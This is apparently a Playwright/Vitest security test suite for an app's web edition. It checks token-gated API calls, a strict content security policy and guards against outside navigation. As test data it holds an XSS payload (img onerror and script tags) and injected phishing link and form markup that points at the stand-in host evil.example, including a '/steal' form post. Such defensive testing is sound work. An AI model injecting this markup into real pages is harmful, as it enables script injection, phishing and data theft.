import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { webTransport } from '../../src-shared/host/contract';
import { startHarness, type Harness } from './harness';

// The web edition's half of docs/security.md: the host refuses calls without the per-launch
// token, and nothing a page contains can navigate the app away or replace it.

let h: Harness;
const warnings: string[] = [];
const allowedExternal = 'https://github.com/campaign-studio';

beforeAll(async () => {
  h = await startHarness();
  // The machine may be offline: answer the allowed external site locally, and fail anything else loudly.
  await h.context.route('https://github.com/**', (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<title>external</title>external' }));
  h.page.on('console', (message) => {
    if (message.type() === 'warning') warnings.push(message.text());
  });
  await h.page.goto(h.host.url);
  await h.page.getByTestId('app-version').waitFor();
});

afterAll(async () => {
  await h?.close();
});

/** Adds an element to the page outside React, as injected or user-supplied markup would be. */
async function inject(html: string): Promise<void> {
  await h.page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), html);
}

async function appIsStillShown(): Promise<void> {
  expect(h.page.url()).toBe(h.host.url);
  expect(await h.page.getByTestId('app-version').isVisible()).toBe(true);
}

describe('web edition security', () => {
  it('refuses an API call without the token, from outside and from the page', async () => {
    const outside = await fetch(new URL(`${webTransport.apiPrefix}secrets.set`, h.host.url), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'backend.default', value: 'planted' }),
    });
    expect(outside.status).toBe(401);

    const fromPage = await h.page.evaluate(async (prefix) => {
      const response = await fetch(`${prefix}app.info`, { method: 'POST', body: '{}' });
      return response.status;
    }, webTransport.apiPrefix);
    expect(fromPage).toBe(401);

    // With the token the page was served, the same host answers, and the planted secret is not there.
    const withToken = await h.page.evaluate(
      async ({ prefix, header, meta }) => {
        const token = document.querySelector<HTMLMetaElement>(`meta[name="${meta}"]`)?.content ?? '';
        const response = await fetch(`${prefix}secrets.has`, { method: 'POST', headers: { [header]: token }, body: '{"name":"backend.default"}' });
        return { status: response.status, body: (await response.json()) as unknown };
      },
      { prefix: webTransport.apiPrefix, header: webTransport.tokenHeader, meta: webTransport.tokenMetaName },
    );
    expect(withToken).toEqual({ status: 200, body: { stored: false } });
  });

  it('serves the page with the strict CSP, so injected script does not run', async () => {
    const response = await h.page.request.get(h.host.url);
    expect(response.headers()['content-security-policy']).toContain("script-src 'self'");
    await inject('<img src="x" onerror="window.__pwned = true"><script>window.__pwned = true</script>');
    await h.page.waitForTimeout(200);
    expect(await h.page.evaluate(() => (window as { __pwned?: boolean }).__pwned)).toBeUndefined();
  });

  it('blocks a link that would navigate away, and opens nothing', async () => {
    const pagesBefore = h.context.pages().length;
    await inject('<a id="evil-link" href="https://evil.example/phish">win a prize</a>');
    await h.page.click('#evil-link');
    await h.page.click('#evil-link', { button: 'middle' });
    await h.page.waitForTimeout(300);
    await appIsStillShown();
    expect(h.context.pages()).toHaveLength(pagesBefore);
    // The renderer's link guard did it (not a failed load): both clicks were refused by name.
    expect(warnings.filter((text) => text.includes('Blocked a link to https://evil.example/phish'))).toHaveLength(2);
  });

  it('opens an allowed external link in a new tab without an opener, never in place of the app', async () => {
    await inject(`<a id="docs-link" href="${allowedExternal}" target="_self">our code</a>`);
    const [popup] = await Promise.all([h.context.waitForEvent('page'), h.page.click('#docs-link')]);
    await popup.waitForLoadState();
    expect(popup.url()).toBe(allowedExternal);
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    await popup.close();
    await appIsStillShown();
  });

  // Last: Playwright keeps waiting for the navigation the CSP refused to start.
  it('blocks a form that would post the page away', async () => {
    await inject('<form id="evil-form" action="https://evil.example/steal" method="post"><input name="q" value="x"></form>');
    // Submitted from script: a click would make Playwright wait for a navigation CSP never lets start.
    await h.page.evaluate(() => document.querySelector<HTMLFormElement>('#evil-form')?.requestSubmit());
    await h.page.waitForTimeout(300);
    await appIsStillShown();
  });
});
